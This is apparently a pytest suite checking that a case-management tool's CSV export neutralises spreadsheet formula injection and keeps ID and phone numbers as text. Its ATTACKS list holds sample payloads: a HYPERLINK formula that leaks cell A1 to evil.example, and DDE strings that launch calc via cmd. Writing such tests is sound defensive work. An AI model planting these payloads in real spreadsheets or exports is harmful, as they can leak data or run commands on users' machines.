"""CSV cells safe in a spreadsheet (OWASP's rule against CSV injection), ID numbers and phones
kept as text, and every cell read back by the import as it was written."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from casework.ledger.csv_cells import SafeWriter, csv_text, safe_cell, unmark

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_marked_as_text_and_read_back_as_written(text: str) -> None:
    cell = safe_cell(text)
    assert cell == "'" + text
    assert unmark(str(cell)) == text


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is() -> None:
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    for plain in ("-3", "-1,234", "-12.5%", "邻里纠纷", "", "a=b", "4409**********1234"):
        assert safe_cell(plain) == plain


def test_a_leading_quote_is_doubled_so_the_import_reads_it_back() -> None:
    assert safe_cell("'引号开头") == "''引号开头"
    assert unmark(str(safe_cell("'引号开头"))) == "'引号开头"


def test_digits_in_a_text_column_are_marked_other_text_is_not() -> None:
    assert safe_cell("440902199001011234", text=True) == "'440902199001011234"
    assert safe_cell("06681234567", text=True) == "'06681234567"
    assert safe_cell("4409**********1234", text=True) == "4409**********1234"
    assert safe_cell("440902199001011234") == "440902199001011234"


def test_the_writer_marks_rows_but_not_the_header() -> None:
    out = io.StringIO()
    writer = SafeWriter(out, text_columns={1})
    writer.writeheader(["标题", "身份证号"])
    writer.writerows([["=1+2", "440902199001011234"], [-3, ""]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["标题", "身份证号"],
        ["'=1+2", "'440902199001011234"],
        ["-3", ""],
    ]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_marked_cells_as_text(tmp_path: Path) -> None:
    """As a statistician opens the file: the ID number a string of all 18 digits, the formula
    a string, the number a number."""
    from openpyxl import load_workbook

    path = tmp_path / "x.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        writer = SafeWriter(fh, text_columns={0})
        writer.writeheader(["身份证号", "标题", "数"])
        writer.writerow(["440902199001011234", '=HYPERLINK("http://x","y")', -3])
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            "xlsx",
            "--infilter=CSV:44,34,76",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    sheet = load_workbook(tmp_path / "x.xlsx").active
    assert sheet is not None
    id_cell, title, number = (c.value for c in sheet[2])
    assert isinstance(id_cell, str) and "440902199001011234" in id_cell
    assert isinstance(title, str) and title.endswith('=HYPERLINK("http://x","y")')
    assert number == -3


def test_the_subsidy_sheet_csv_marks_a_formula_in_a_name() -> None:
    from casework.read.shapes import SheetJSON, SheetRow
    from casework.read.subsidy import to_csv

    row = SheetRow(
        office="panzhou",
        office_name="潘州街道",
        mediator="med_pz",
        mediator_name='=HYPERLINK("http://x")',
        claim="BT-2020-0001",
        mediation_case=None,
        tier="simple",
        tier_label="简易",
        amount=200,
        state="approved",
        payable=200,
        capped=False,
        example=True,
    )
    sheet = SheetJSON(
        quarter="2020Q3",
        claims=[row],
        by_office=[],
        by_mediator=[],
        total_cases=1,
        total_amount=200,
        example=True,
        heading="-示例标准，非正式数据",
    )
    rows = list(csv.reader(io.StringIO(to_csv(sheet))))
    assert rows[0] == ["'-示例标准，非正式数据"]
    assert rows[2][3] == '\'=HYPERLINK("http://x")' and rows[2][8] == "200"


def test_a_table_as_csv_text_is_made_safe() -> None:
    """As ``stats --csv`` writes its table."""
    text = csv_text(["指标 metric", "@office"], [["=1+2", "-5"], ["率", "97.78%"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["指标 metric", "'@office"],
        ["'=1+2", "-5"],
        ["率", "97.78%"],
    ]
